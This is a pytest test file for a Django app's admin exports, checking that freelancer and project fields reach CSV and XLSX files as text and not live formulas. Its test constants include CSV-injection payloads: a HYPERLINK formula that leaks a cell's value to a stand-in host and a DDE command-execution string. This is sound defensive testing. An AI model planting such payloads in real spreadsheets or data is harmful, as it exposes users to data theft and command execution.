"""Exports carry text, never a live formula, and a stray control character does not break them."""

import csv
import io
from decimal import Decimal
from http import HTTPStatus

import openpyxl
import pytest
from django.urls import reverse
from import_export.formats.base_formats import CSV, XLSX

from freelancers.models import Freelancer
from freelancers.resources import FreelancerResource
from freelancers.tests.factories import FreelancerFactory
from projects.resources import ProjectResource
from projects.tests.factories import ProjectFactory

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
HOSTILE_NAMES = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def admin_export(client, page, resource, file_format):
    """Post the admin's export form with every column ticked; `file_format` is CSV or XLSX."""
    fields = {f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()}
    response = client.post(
        reverse(f"admin:{page}_export"),
        {"format": str([CSV, XLSX].index(file_format)), "resource": "0", **fields},
    )
    assert response.status_code == HTTPStatus.OK
    return response.content


def csv_rows(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content, column):
    """The cells under the header `column`, as openpyxl reads them: value and data type."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    headers = [cell.value for cell in sheet[1]]
    index = headers.index(column)
    return [row[index] for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_freelancer_named_like_a_formula_exports_to_xlsx_as_text(owner_client, name):
    FreelancerFactory(name=name)

    content = admin_export(owner_client, "freelancers_freelancer", FreelancerResource, XLSX)

    [cell] = xlsx_cells(content, "name")
    assert cell.data_type == "s"
    assert not cell.value.startswith(FORMULA_STARTS)
    assert cell.value.endswith(name.lstrip("\t\r"))


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_freelancer_named_like_a_formula_exports_to_csv_as_text(owner_client, name):
    FreelancerFactory(name=name)

    [row] = csv_rows(admin_export(owner_client, "freelancers_freelancer", FreelancerResource, CSV))

    assert not row["name"].startswith(FORMULA_STARTS)


@pytest.mark.parametrize("file_format", [CSV, XLSX])
def test_a_hostile_name_imports_back_as_it_was(file_format):
    FreelancerFactory(name=LEAK, email="eve@example.com", phone="+44 20 7946 0958", notes="")
    before = Freelancer.objects.values("name", "phone", "notes").get()
    exported = file_format().export_data(FreelancerResource().export(force_native_type=file_format is XLSX))

    result = FreelancerResource().import_data(file_format().create_dataset(exported), dry_run=False)

    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["skip"] == 1  # nothing changed
    assert Freelancer.objects.values("name", "phone", "notes").get() == before


def test_a_project_title_is_text_and_its_money_stays_numbers(owner_client):
    ProjectFactory(title="=1+1", budget=Decimal("1000.00"), freelancer__name="@Ana")

    content = admin_export(owner_client, "projects_project", ProjectResource, XLSX)
    [row] = csv_rows(admin_export(owner_client, "projects_project", ProjectResource, CSV))

    [title] = xlsx_cells(content, "title")
    [budget] = xlsx_cells(content, "budget")
    [freelancer] = xlsx_cells(content, "freelancer")
    assert (title.data_type, freelancer.data_type) == ("s", "s")
    assert budget.data_type == "n" and budget.value == 1000
    assert not row["title"].startswith(FORMULA_STARTS) and not row["freelancer"].startswith(FORMULA_STARTS)
    assert row["budget"] == "1000.00"


def test_control_characters_no_longer_break_the_xlsx_export(owner_client):
    FreelancerFactory(name="Ana\x0bSouza", notes="Bell\x07here")

    content = admin_export(owner_client, "freelancers_freelancer", FreelancerResource, XLSX)

    [name] = xlsx_cells(content, "name")
    [notes] = xlsx_cells(content, "notes")
    assert name.value == "Ana\N{REPLACEMENT CHARACTER}Souza"
    assert notes.value == "Bell\N{REPLACEMENT CHARACTER}here"
